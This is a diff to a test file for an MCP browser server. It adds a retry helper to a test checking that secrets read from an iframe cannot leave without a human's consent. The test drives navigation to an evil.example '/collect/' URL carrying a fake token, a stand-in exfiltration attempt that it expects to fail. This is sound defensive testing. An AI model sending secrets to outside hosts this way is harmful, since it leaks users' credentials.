@@ -11,6 +11,7 @@ import { after, before, describe, test } from 'node:test';
 import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
 import { refOf, startMcp } from '../helpers/mcpClient.ts';
 import { differingRows } from '../helpers/pngRows.ts';
+import { waitFor } from '../helpers/waitFor.ts';
 
 const token = 'ghp_leakyToken4242';
 const secret = 'Pa55-word-7781';
@@ -174,8 +175,11 @@ describe('data does not leave without the human', () => {
     const mcp = await startMcp({ args: ['--mode', 'isolated'] });
     try {
       await mcp.call('new_page', { url: evil.url('evil.example', '/frame') });
-      const framed = await mcp.call('take_snapshot');
-      assert.match(framed.text, new RegExp(token), 'the iframe was read in passing');
+      // The frame may still be loading as new_page returns on a loaded machine: read until it shows.
+      const framed = await waitFor('the iframe read in passing', async () => {
+        const read = await mcp.call('take_snapshot');
+        return read.text.includes(token) ? read : undefined;
+      });
       const asked = mcp.human.questions.length;
       const byPath = await mcp.call('navigate_page', { url: evil.url('evil.example', `/collect/${token}`) });
       assert.ok(byPath.isError, byPath.text);
